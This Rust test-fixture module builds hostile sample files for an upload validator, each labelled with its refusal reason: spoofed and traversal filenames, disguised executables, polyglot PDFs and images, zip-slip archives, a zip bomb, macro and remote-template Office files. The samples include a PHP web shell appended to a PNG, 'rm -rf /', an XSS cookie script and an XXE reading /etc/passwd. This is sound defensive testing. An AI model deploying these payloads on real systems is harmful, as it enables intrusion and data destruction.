//! Hostile files, each with the reason it is refused for.

use super::samples::{
    EXCEL, POWERPOINT, Part, WORD, archive, chunk, docx, docx_with, jpeg, jpeg_sized, jpeg_without_scan, link, part,
    pdf, png, png_header, png_of, types, xlsx,
};

pub struct Hostile {
    pub name: String,
    pub declared: &'static str,
    pub bytes: Vec<u8>,
    /// The key of the refusal.
    pub why: &'static str,
}

const EXE: &[u8] =
    b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0@\0\0\0This program cannot be run in DOS mode.";
const HTML: &[u8] = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>";
const SVG: &[u8] = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";

fn joined(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

/// All of them.
pub fn all() -> Vec<Hostile> {
    [names(), declarations(), contents(), pdfs(), pictures(), archives(), office()].into_iter().flatten().collect()
}

fn of(name: &str, bytes: impl Into<Vec<u8>>, why: &'static str) -> Hostile {
    Hostile { name: name.to_owned(), declared: "application/octet-stream", bytes: bytes.into(), why }
}

/// Names that lead elsewhere or hide what the file is; the file itself is fine.
fn names() -> Vec<Hostile> {
    let long = format!("{}.pdf", "a".repeat(200));
    [
        ("report.pdf.exe", "type-not-taken"),
        ("report.exe.pdf", "name-hides-another"),
        ("invoice.PDF.scr", "type-not-taken"),
        ("invoice.scr .pdf", "name-hides-another"),
        ("shell.php.jpg", "name-hides-another"),
        ("page.html.txt", "name-hides-another"),
        ("../../etc/passwd.pdf", "name-path"),
        ("..\\..\\windows\\system32\\x.pdf", "name-path"),
        ("C:\\temp\\x.pdf", "name-path"),
        ("/etc/cron.d/x.pdf", "name-path"),
        ("x.exe:y.pdf", "name-path"),
        ("evil\0.pdf", "name-invisible"),
        ("evil.exe\0.pdf", "name-invisible"),
        ("a\r\nSet-Cookie: x=1.pdf", "name-invisible"),
        ("report\u{202e}fdp.exe", "name-invisible"),
        ("report\u{202e}exe.pdf", "name-invisible"),
        ("re\u{200b}port.pdf", "name-invisible"),
        ("\u{feff}report.pdf", "name-invisible"),
        ("report\u{2067}x.pdf", "name-invisible"),
        ("CON.pdf", "name-reserved"),
        ("nul.tar.pdf", "name-reserved"),
        ("com1.txt", "name-reserved"),
        ("LPT¹.pdf", "name-reserved"),
        ("aux .pdf", "name-reserved"),
        (".pdf", "name-odd"),
        (".htaccess", "name-odd"),
        ("report.pdf.", "name-odd"),
        ("report.pdf ", "name-odd"),
        (" report.pdf", "name-odd"),
        ("report", "type-not-taken"),
        ("report.pdf．exe", "type-not-taken"),
        ("report.docm", "type-not-taken"),
        ("list.xlsm", "type-not-taken"),
        ("page.html", "type-not-taken"),
        ("picture.svg", "type-not-taken"),
        ("old.doc", "type-not-taken"),
        ("archive.zip", "type-not-taken"),
        (&long, "name-too-long"),
    ]
    .map(|(name, why)| of(name, pdf(), why))
    .into()
}

/// Files that are what their name says, and that are declared to be something else.
fn declarations() -> Vec<Hostile> {
    let said = |name: &str, declared, bytes: Vec<u8>| Hostile { declared, ..of(name, bytes, "declared") };
    vec![
        said("a.pdf", "text/html", pdf()),
        said("a.png", "image/svg+xml", png()),
        said("a.csv", "application/x-msdownload", b"a,b".to_vec()),
        said("a.docx", "application/vnd.ms-word.document.macroEnabled.12", docx()),
        said("a.txt", "text/html", b"hello".to_vec()),
        said("a.xlsx", "application/zip", xlsx()),
    ]
}

/// Files that are not what their name says.
fn contents() -> Vec<Hostile> {
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";
    let gif = b"GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;";
    vec![
        of("a.pdf", "", "empty"),
        of("a.pdf", EXE, "looks-like"),
        of("a.pdf", elf.as_slice(), "looks-like"),
        of("a.pdf", HTML, "looks-like"),
        of("a.pdf", docx(), "looks-like"),
        of("a.png", gif.as_slice(), "looks-like"),
        of("a.png", SVG, "looks-like"),
        of("a.png", jpeg(), "looks-like"),
        of("a.jpg", png(), "looks-like"),
        of("a.docx", pdf(), "looks-like"),
        of("a.xlsx", HTML, "looks-like"),
        of("a.txt", HTML, "looks-like"),
        of("a.txt", pdf(), "looks-like"),
        of("a.csv", SVG, "looks-like"),
        of("a.txt", b"#!/bin/sh\nrm -rf /\n".as_slice(), "looks-like"),
        of("a.txt", b"{\\rtf1\\ansi hello}".as_slice(), "looks-like"),
        of("a.txt", EXE, "not-text"),
        of("a.txt", b"hello\0world".as_slice(), "not-text"),
        of("a.txt", b"\xff\xfeh\0i\0".as_slice(), "not-text"),
        of("a.csv", b"a,b\x1b]0;x\x07\n".as_slice(), "not-text"),
        of("a.csv", png(), "not-text"),
        of("a.txt", b"caf\xe9 \x81".as_slice(), "not-text"),
    ]
}

fn pdfs() -> Vec<Hostile> {
    let whole = pdf();
    let text = String::from_utf8(whole.clone()).unwrap();
    let zip = archive(&[part("evil.class", EXE)]);
    // A ZIP whose comment is the end of a PDF, behind a true PDF.
    let tail = b"\nstartxref\n9\n%%EOF";
    let mut hidden = joined(&[&whole, &zip]);
    let end = hidden.len();
    hidden[end - 2..].copy_from_slice(&u16::try_from(tail.len()).unwrap().to_le_bytes());
    hidden.extend_from_slice(tail);
    vec![
        of("a.pdf", joined(&[b"junk\n", &whole]), "broken"),
        of("a.pdf", text.replace("%%EOF", "%%EO").into_bytes(), "broken"),
        of("a.pdf", text.replace("startxref", "startxreg").into_bytes(), "broken"),
        of("a.pdf", text.replace("startxref\n", "startxref\n99").into_bytes(), "broken"),
        of("a.pdf", text.replace("%PDF-1.7", "%PDF-9.9").into_bytes(), "broken"),
        of("a.pdf", b"%PDF-1.4".as_slice(), "broken"),
        of("a.pdf", joined(&[&whole, EXE]), "trailing"),
        of("a.pdf", joined(&[&whole, HTML]), "trailing"),
        of("a.pdf", joined(&[&whole, &zip]), "trailing"),
        of("a.pdf", hidden, "hides-archive"),
    ]
}

fn pictures() -> Vec<Hostile> {
    let (png, jpeg) = (png(), jpeg());
    let zip = archive(&[part("evil.class", EXE)]);
    let mut damaged = png.clone();
    damaged[20] ^= 1;
    let end = chunk(b"IEND", b"");
    let data = chunk(b"IDAT", b"x");
    vec![
        of("a.png", &png[..png.len() - 6], "broken"),
        of("a.png", damaged, "broken"),
        of("a.png", png_of(&[png_header(1, 1), end.clone()]), "broken"),
        of("a.png", png_of(&[data.clone(), end.clone()]), "broken"),
        of("a.png", png_of(&[png_header(1, 1), png_header(1, 1), data.clone(), end.clone()]), "broken"),
        of("a.png", png_of(&[png_header(0, 1), data.clone(), end.clone()]), "broken"),
        of("a.png", png_of(&[png_header(50_000, 50_000), data.clone(), end.clone()]), "too-many-pixels"),
        of("a.png", joined(&[&png, b"<?php system($_GET['c']); ?>"]), "trailing"),
        of("a.png", joined(&[&png, &zip]), "trailing"),
        of("a.png", png_of(&[png_header(1, 1), data, chunk(b"zTXt", &zip), end]), "hides-archive"),
        of("a.jpg", &jpeg[..jpeg.len() - 2], "broken"),
        of("a.jpg", &jpeg[..30], "broken"),
        of("a.jpg", jpeg_without_scan(), "broken"),
        of("a.jpg", jpeg_sized(0, 9), "broken"),
        of("a.jpg", jpeg_sized(65_000, 65_000), "too-many-pixels"),
        of("a.jpg", joined(&[&jpeg, &zip]), "trailing"),
        of("a.jpg", joined(&[&jpeg, b"<?php phpinfo(); ?>"]), "trailing"),
        of("a.jpg", joined(&[&jpeg, &jpeg[..40]]), "broken"),
    ]
}

/// Archives that are made to do harm to whoever unpacks them.
fn archives() -> Vec<Hostile> {
    let docx = docx();
    let evil = |name: &str| docx_with(&[part(name, "x")]);
    let with = |change: fn(&mut Part)| {
        let mut part = part("word/media/x.bin", "some bytes that are fine");
        change(&mut part);
        docx_with(&[part])
    };
    let many: Vec<Part> = (0..2_001).map(|at| part(&format!("word/{at}.xml"), "")).collect();
    let mut commented = docx.clone();
    let end = commented.len();
    commented[end - 2] = 4;
    commented.extend_from_slice(b"note");
    let mut damaged = docx_with(&[Part { packed: false, ..part("word/x.xml", "some bytes that are fine") }]);
    let at = damaged.windows(4).position(|four| four == b"some").unwrap();
    damaged[at] = b'S';
    vec![
        of("a.docx", evil("../../evil.sh"), "archive-path"),
        of("a.docx", evil("/etc/cron.d/evil"), "archive-path"),
        of("a.docx", evil("..\\..\\evil.bat"), "archive-path"),
        of("a.docx", evil("C:/evil.bat"), "archive-path"),
        of("a.docx", evil("word/./document.xml"), "archive-path"),
        of("a.docx", evil("WORD/DOCUMENT.XML"), "archive-path"),
        of("a.docx", with(|part| part.attributes = 0o120_777 << 16), "archive-path"),
        of("a.docx", with(|part| part.flags = 1), "locked"),
        of("a.docx", with(|part| part.method = Some(12)), "broken"),
        of("a.docx", with(|part| part.claims = Some(5)), "broken"),
        of("a.docx", with(|part| part.listed = false), "broken"),
        of("a.docx", damaged, "broken"),
        of("a.docx", docx_with(&[part("word/zeros.xml", vec![b' '; 3_000_000])]), "bomb"),
        of("a.docx", docx_with(&many), "too-many-parts"),
        of("a.docx", joined(&[EXE, &docx]), "looks-like"),
        of("a.docx", joined(&[b"PK\x03\x04junk", &docx]), "trailing"),
        of("a.docx", joined(&[&docx, EXE]), "broken"),
        of("a.docx", commented, "broken"),
        of("a.docx", &docx[..docx.len() - 30], "broken"),
    ]
}

/// Office files of another kind, or that run or fetch something when opened.
fn office() -> Vec<Hostile> {
    let typed = |text: &str| archive(&[part("[Content_Types].xml", text), part("word/document.xml", "x")]);
    let wide: Vec<u8> = "<Types/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let spelled = types(WORD).data;
    let spelled = String::from_utf8(spelled)
        .unwrap()
        .replace("/></Types>", "/><Default ContentType=\"application/vnd.ms-office.vb&#97;Project\"/></Types>");
    vec![
        of("a.docx", xlsx(), "looks-like"),
        of("a.xlsx", docx(), "looks-like"),
        of("a.docx", archive(&[types(POWERPOINT)]), "looks-like"),
        of("a.docx", archive(&[part("readme.txt", "hello")]), "looks-like"),
        of("a.docx", docx_with(&[part("word/vbaProject.bin", "x")]), "macros"),
        of("a.xlsx", archive(&[types(EXCEL), part("xl/macrosheets/sheet1.xml", "x")]), "macros"),
        of("a.docx", docx_with(&[part("word/activeX/activeX1.xml", "x")]), "macros"),
        of(
            "a.docx",
            typed("<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"),
            "macros",
        ),
        of("a.docx", typed(&spelled), "broken"),
        of("a.docx", docx_with(&[link("attachedTemplate", "https://evil.test/t.dotm", "External")]), "reaches"),
        of("a.docx", docx_with(&[link("oleObject", "file://evil.test/x", "External")]), "reaches"),
        of("a.docx", docx_with(&[link("attachedTempl&#97;te", "https://evil.test/t.dotm", "External")]), "reaches"),
        of("a.docx", docx_with(&[link("frame", "https://evil.test", "Ext&#101;rnal")]), "reaches"),
        of("a.docx", typed("<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><Types>&y;</Types>"), "broken"),
        of("a.docx", archive(&[part("[Content_Types].xml", wide)]), "broken"),
    ]
}
